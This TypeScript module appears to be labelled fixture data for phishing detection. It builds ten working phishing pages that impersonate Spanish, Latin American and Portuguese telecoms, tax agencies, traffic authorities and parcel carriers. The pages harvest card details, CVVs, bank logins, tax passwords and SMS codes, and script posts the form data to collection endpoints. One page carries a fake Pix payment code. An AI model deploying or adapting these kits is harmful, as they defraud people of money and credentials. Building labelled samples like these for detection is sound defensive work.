import { htmlRoute, redirectRoute, type Entry } from '../entry.js';
import { doc, exfil, jsonRoute, jsRoute, okRoute, pngRoute } from '../parts/zd-kit.js';

/**
 * Telecom, utility, government-service and parcel kits: unpaid-bill and refund lures from telcos and
 * power companies, tax-agency refunds and "buzón" notices, traffic fines, benefits, and parcel customs
 * fees, all ending at a card or bank form.
 */

const cardForm = (id: string, btn: string, lang: 'es' | 'pt' = 'es') => `<form id="${id}">
<label>${lang === 'es' ? 'Nombre del titular' : 'Nome do titular'}</label><input name="titular" required>
<label>${lang === 'es' ? 'Número de tarjeta' : 'Número do cartão'}</label><input name="cc" maxlength="19" inputmode="numeric" required>
<div style="display:flex;gap:10px"><div style="flex:1"><label>${lang === 'es' ? 'Caducidad' : 'Validade'}</label><input name="exp" placeholder="MM/AA" required></div><div style="flex:1"><label>CVV</label><input name="cvv" maxlength="4" required></div></div>
<button>${btn}</button><p id="wait" style="display:none">${lang === 'es' ? 'Procesando pago…' : 'Processando pagamento…'}</p></form>`;

const baseCss = (c: string) => `body{margin:0;font-family:Arial,Helvetica,sans-serif;background:#f3f4f6;color:#222}.h{background:${c};color:#fff;padding:16px 30px;font-size:22px;font-weight:bold}
.c{max-width:460px;margin:30px auto;background:#fff;padding:26px;border-radius:6px;box-shadow:0 1px 4px #0002}label{display:block;font-size:13px;margin-top:10px}
input,select{width:100%;padding:11px;margin:4px 0 8px;border:1px solid #bbb;border-radius:4px;box-sizing:border-box}button{width:100%;padding:13px;background:${c};color:#fff;border:0;border-radius:4px;margin-top:12px;font-size:15px}
table{width:100%;font-size:14px;border-collapse:collapse}td{padding:6px;border-bottom:1px solid #eee}.f{font-size:11px;color:#888;text-align:center;margin:20px}`;

export const entries: Entry[] = [
  {
    id: 'zd-bill-movistar-factura-reembolso',
    label: 'phishing',
    kind: 'telecom-bill-kit',
    url: 'https://areaclientes-movistar.reembolso-factura.es/es/reembolso',
    body: doc({
      lang: 'es',
      title: 'Movistar - Reembolso por cobro duplicado',
      css: baseCss('#019df4'),
      body: `<div class="h">movistar</div><div class="c"><h3>Tiene un reembolso pendiente</h3><p>Hola, hemos detectado un <b>cobro duplicado</b> en su última factura de Fusión. El importe de <b>46,73 €</b> será abonado en su tarjeta tras verificar sus datos.</p>
${cardForm('mv', 'Solicitar reembolso')}<p style="font-size:12px">Número de referencia: MOV-ES-2025-119384</p></div>
<div class="f">Telefónica de España, S.A.U. · Gran Vía 28, 28013 Madrid</div>
${exfil({ form: '#mv', endpoint: '/es/reembolso/procesar', next: 'https://www.movistar.es/' })}`,
    }),
    routes: { 'areaclientes-movistar.reembolso-factura.es/es/reembolso/procesar': okRoute() },
  },
  {
    id: 'zd-gov-sat-buzon-tributario',
    label: 'phishing',
    kind: 'gov-tax-kit',
    url: 'https://buzon-sat.notificaciones-contribuyente.mx/acceso/efirma',
    body: doc({
      lang: 'es-MX',
      title: 'SAT | Buzón Tributario',
      css: baseCss('#611232'),
      body: `<div class="h">SAT · Servicio de Administración Tributaria</div><div class="c"><h3>Tiene 1 notificación pendiente en su Buzón Tributario</h3><p>Acuerdo de requerimiento de información — Art. 42 CFF. Para visualizar el documento, ingrese con su RFC y contraseña o e.firma.</p>
<form id="sat"><label>RFC</label><input name="rfc" maxlength="13"><label>Contraseña (CIEC)</label><input name="ciec" type="password"><label>Correo electrónico</label><input name="correo"><label>Contraseña del correo (para recibir el acuse)</label><input name="pcorreo" type="password"><button>Enviar</button><p id="wait" style="display:none">Cargando notificación…</p></form></div>
<div class="f">Secretaría de Hacienda y Crédito Público · Gobierno de México</div>
${exfil({ form: '#sat', endpoint: '/acceso/efirma/valida', next: 'https://www.sat.gob.mx/' })}`,
    }),
    routes: { 'buzon-sat.notificaciones-contribuyente.mx/acceso/efirma/valida': okRoute() },
  },
  {
    id: 'zd-gov-dian-devolucion-saldo',
    label: 'phishing',
    kind: 'gov-tax-kit',
    url: 'https://dian-gov-co.devoluciones-renta.com/muisca/devolucion',
    body: doc({
      lang: 'es-CO',
      title: 'DIAN - Devolución de saldos a favor',
      css: baseCss('#1d3b72'),
      body: `<div class="h">DIAN · Dirección de Impuestos y Aduanas Nacionales</div><div class="c"><h3>Devolución automática de saldo a favor</h3><p>Según su declaración de renta AG 2024, tiene un saldo a favor de <b>$1.386.000</b>. Seleccione su entidad financiera para recibir la devolución.</p>
<form id="di"><label>NIT / Cédula</label><input name="nit"><label>Banco</label><select name="banco"><option>Bancolombia</option><option>Davivienda</option><option>Banco de Bogotá</option><option>BBVA Colombia</option><option>Nequi</option></select><label>Usuario banca virtual</label><input name="usr"><label>Clave</label><input name="clave" type="password"><button>Recibir devolución</button><p id="wait" style="display:none">Procesando…</p></form></div>
<div class="f">DIAN – Gobierno de Colombia</div>
${exfil({ form: '#di', endpoint: '/muisca/devolucion/submit', next: 'https://www.dian.gov.co/' })}`,
    }),
    routes: { 'dian-gov-co.devoluciones-renta.com/muisca/devolucion/submit': okRoute() },
  },
  {
    id: 'zd-gov-aeat-reembolso',
    label: 'phishing',
    kind: 'gov-tax-kit',
    url: 'https://sede-agenciatributaria.gob-es.info/Sede/reembolso.html',
    body: doc({
      lang: 'es',
      title: 'Agencia Tributaria: Devolución IRPF',
      css: baseCss('#7f1d1d'),
      body: `<div class="h">Agencia Tributaria · Sede electrónica</div><div class="c"><h3>Notificación de reembolso</h3><p>Tras los últimos cálculos anuales de su actividad fiscal, hemos determinado que usted tiene derecho a recibir un reembolso de impuestos de <b>346,48 €</b>. Por favor, envíe la solicitud del reembolso y permita 3-5 días hábiles para procesarla.</p>
<form id="ae"><label>Nombre y apellidos</label><input name="nombre"><label>DNI/NIE</label><input name="dni"><label>Fecha de nacimiento</label><input name="nac" placeholder="dd/mm/aaaa"><label>Teléfono</label><input name="tel"><hr>${cardForm('x', 'x').replace(/<form[^>]*>|<\/form>|<button>x<\/button>|<p id="wait"[^<]*<\/p>/g, '')}<button>Enviar solicitud</button><p id="wait" style="display:none">Enviando…</p></form></div>
<div class="f">© Agencia Estatal de Administración Tributaria</div>
${exfil({ form: '#ae', endpoint: '/Sede/rcv.php', next: '/Sede/ok.html', mode: 'form' })}`,
    }),
    routes: {
      'sede-agenciatributaria.gob-es.info/Sede/rcv.php': okRoute(),
      'sede-agenciatributaria.gob-es.info/Sede/ok.html': redirectRoute(302, 'https://sede.agenciatributaria.gob.es/'),
    },
  },
  {
    id: 'zd-gov-dgt-multa',
    label: 'phishing',
    kind: 'gov-fine-kit',
    url: 'https://dgt-multas.sede-pago.com/multa?exp=ES2025-',
    body: doc({
      lang: 'es',
      title: 'DGT - Pago de multas',
      css: baseCss('#003f7d'),
      body: `<div class="h">DGT · Dirección General de Tráfico</div><div class="c"><h3>Notificación de sanción pendiente</h3><p>Expediente: <b id="ex"></b><br>Infracción: exceso de velocidad captado por radar (A-6, km 27).<br>Importe: <s>200,00 €</s> <b>100,00 €</b> (reducción del 50% por pronto pago, plazo hoy).</p>
${cardForm('dg', 'Pagar con reducción')}<p style="font-size:12px">De no abonarse se procederá a la retirada de <b>4 puntos</b> del permiso de conducir.</p></div>
<div class="f">Ministerio del Interior · Dirección General de Tráfico</div>
<script>document.getElementById('ex').textContent='ES2025-'+Math.floor(1e6+Math.random()*9e6)</script>
${exfil({ form: '#dg', endpoint: '/multa/cobro', next: '/multa/verificacion' })}`,
    }),
    routes: {
      'dgt-multas.sede-pago.com/multa/cobro': okRoute(),
      'dgt-multas.sede-pago.com/multa/verificacion': htmlRoute(doc({ lang: 'es', title: 'Verificación', body: `<div style="max-width:400px;margin:40px auto;font-family:Arial"><h3>Código de verificación</h3><p>Introduzca el código SMS de su banco.</p><input style="width:100%;padding:10px"><button style="margin-top:8px;padding:10px 30px">Validar</button></div>` })),
    },
  },
  {
    id: 'zd-gov-anses-bono',
    label: 'phishing',
    kind: 'gov-benefit-kit',
    url: 'https://anses-gob.bono-refuerzo.com.ar/inscripcion',
    body: doc({
      lang: 'es-AR',
      title: 'ANSES - Inscripción Bono Refuerzo',
      css: baseCss('#00a0df'),
      body: `<div class="h">ANSES · Mi ANSES</div><div class="c"><h3>Bono Refuerzo de Ingresos $70.000</h3><p>Inscribite para cobrar el bono extraordinario. Cobro en tu cuenta bancaria o billetera virtual en 72 hs.</p>
<form id="an"><label>CUIL</label><input name="cuil"><label>Clave de la Seguridad Social</label><input name="clave" type="password"><label>CBU / CVU</label><input name="cbu" maxlength="22"><label>Banco o billetera</label><input name="banco"><label>Usuario de homebanking</label><input name="hb"><label>Clave de homebanking</label><input name="hbp" type="password"><button>Inscribirme</button><p id="wait" style="display:none">Validando CUIL…</p></form></div>
<div class="f">Administración Nacional de la Seguridad Social · Argentina.gob.ar</div>
${exfil({ form: '#an', endpoint: '/inscripcion/guardar', next: 'https://www.anses.gob.ar/' })}`,
    }),
    routes: { 'anses-gob.bono-refuerzo.com.ar/inscripcion/guardar': okRoute() },
  },
  {
    id: 'zd-parcel-correos-es-aduana',
    label: 'phishing',
    kind: 'parcel-kit',
    url: 'https://correos-es.envio-retenido.com/seguimiento/ES48210',
    body: doc({
      lang: 'es',
      title: 'Correos - Localizador de envíos',
      css: baseCss('#002e6d') + '.y{background:#ffcd00;color:#002e6d}',
      body: `<div class="h y">Correos</div><div class="c"><h3>Su envío está retenido en aduanas</h3><table><tr><td>Envío</td><td>PQ4YD40714829580128001Y</td></tr><tr><td>Estado</td><td>Pendiente de pago de tasas aduaneras (IVA importación)</td></tr><tr><td>Importe</td><td><b>2,99 €</b></td></tr></table>
<form id="co"><label>Nombre</label><input name="nombre"><label>Dirección</label><input name="dir"><label>Código postal</label><input name="cp"><label>Teléfono</label><input name="tel">${cardForm('z', 'z').replace(/<form[^>]*>|<\/form>|<button>z<\/button>|<p id="wait"[^<]*<\/p>/g, '')}<button>Pagar 2,99 €</button><p id="wait" style="display:none">Procesando…</p></form></div>
<div class="f">Sociedad Estatal Correos y Telégrafos, S.A., S.M.E.</div>
${exfil({ form: '#co', endpoint: '/seguimiento/pay.php', next: '/seguimiento/sms.php', mode: 'form' })}`,
    }),
    routes: {
      'correos-es.envio-retenido.com/seguimiento/pay.php': okRoute(),
      'correos-es.envio-retenido.com/seguimiento/sms.php': htmlRoute(doc({ lang: 'es', title: 'Correos', body: `<div style="max-width:400px;margin:40px auto;font-family:Arial"><h3>Autenticación</h3><p>Introduzca el código recibido por SMS.</p><input style="width:100%;padding:10px"><button style="margin-top:8px;padding:10px 30px;background:#ffcd00;border:0">Continuar</button></div>` })),
    },
  },
  {
    id: 'zd-parcel-correios-taxa-pix',
    label: 'scam',
    kind: 'parcel-fee',
    url: 'https://correios.rastreio-taxacao.com/objeto/NL482915327BR',
    body: doc({
      lang: 'pt-BR',
      title: 'Correios - Rastreamento de Objetos',
      css: baseCss('#00416b') + '.y{background:#ffd400;color:#00416b}',
      body: `<div class="h y">Correios</div><div class="c"><h3>Objeto aguardando pagamento</h3>
<ul style="font-size:14px;line-height:1.8"><li>✔ Objeto postado – CHINA</li><li>✔ Objeto recebido pelos Correios do Brasil – CURITIBA/PR</li><li>✔ Fiscalização aduaneira concluída</li><li style="color:#b00">● Aguardando pagamento da taxa de importação</li></ul>
<p>Taxa de despacho postal + ICMS: <b>R$ 53,47</b></p><p>Após o prazo de 3 dias o objeto será devolvido ao remetente.</p>
<div style="text-align:center"><img src="/objeto/pix-qr.png" width="180" height="180" alt=""><p>Pix copia e cola</p><input id="pc" readonly value="00020101021226860014br.gov.bcb.pix2564pix.pagar-taxa.com/qr/v2/cob/8f2a1d3e5c7b9a0f4e6d2c1b3a5f7e9d520400005303986540553.475802BR5918TAXACAO EXPRESSA6009SAO PAULO62070503***6304C3D2">
<button onclick="navigator.clipboard.writeText(document.getElementById('pc').value);this.textContent='Código copiado'">Copiar código</button></div></div>
<div class="f">Empresa Brasileira de Correios e Telégrafos</div>`,
    }),
    routes: { 'correios.rastreio-taxacao.com/objeto/pix-qr.png': pngRoute(0, 0, 0) },
  },
  {
    id: 'zd-parcel-ctt-reagendar',
    label: 'phishing',
    kind: 'parcel-kit',
    url: 'https://ctt-pt.reagendar-entrega.com/pt/entrega',
    body: doc({
      lang: 'pt-PT',
      title: 'CTT - Reagendar entrega',
      css: baseCss('#df0024'),
      body: `<div class="h">CTT</div><div class="c"><h3>Não foi possível entregar a sua encomenda</h3><p>O destinatário estava ausente. Para reagendar a entrega é necessário o pagamento de <b>1,99 €</b> de portes de reenvio.</p>
<form id="ct"><label>Nome</label><input name="nome"><label>Morada</label><input name="morada"><label>Código postal</label><input name="cp" placeholder="0000-000"><label>Data preferida</label><input name="data" type="date">${cardForm('q', 'q', 'pt').replace(/<form[^>]*>|<\/form>|<button>q<\/button>|<p id="wait"[^<]*<\/p>/g, '')}<button>Pagar e reagendar</button><p id="wait" style="display:none">A processar…</p></form></div>
<div class="f">CTT – Correios de Portugal, S.A.</div>
${exfil({ form: '#ct', endpoint: '/pt/entrega/api', next: 'https://www.ctt.pt/' })}`,
    }),
    routes: { 'ctt-pt.reagendar-entrega.com/pt/entrega/api': okRoute() },
  },
  {
    id: 'zd-parcel-estafeta-guia',
    label: 'phishing',
    kind: 'parcel-kit',
    url: 'https://estafeta-mx.rastreo-guia.com/?guia=8055241526064710061187',
    body: doc({
      lang: 'es-MX',
      title: 'Estafeta | Rastreo de envíos',
      css: baseCss('#e2001a'),
      body: `<div class="h">ESTAFETA</div><div class="c" id="c"><p>Consultando guía…</p></div>
<script src="/js/track.js"></script>`,
    }),
    routes: {
      'estafeta-mx.rastreo-guia.com/js/track.js': jsRoute(`setTimeout(function(){var g=new URLSearchParams(location.search).get('guia')||'';document.getElementById('c').innerHTML='<h3>Guía '+g.replace(/\\D/g,'')+'</h3><p>Su paquete no pudo ser entregado por <b>dirección incompleta</b>. Actualice sus datos y cubra el costo de reenvío de <b>$25.00 MXN</b>.</p><form id="es"><label>Nombre</label><input name="n"><label>Calle y número</label><input name="d"><label>C.P.</label><input name="cp"><label>Tarjeta</label><input name="cc"><label>Vencimiento</label><input name="v"><label>CVV</label><input name="cvv"><button>Pagar $25.00</button></form>';
document.getElementById('es').onsubmit=function(e){e.preventDefault();var o={};new FormData(this).forEach(function(v,k){o[k]=v});navigator.sendBeacon('/api/g',JSON.stringify(o));setTimeout(function(){location.href='https://www.estafeta.com/'},1200)}},900);`),
      'estafeta-mx.rastreo-guia.com/api/g': okRoute(),
    },
  },
];
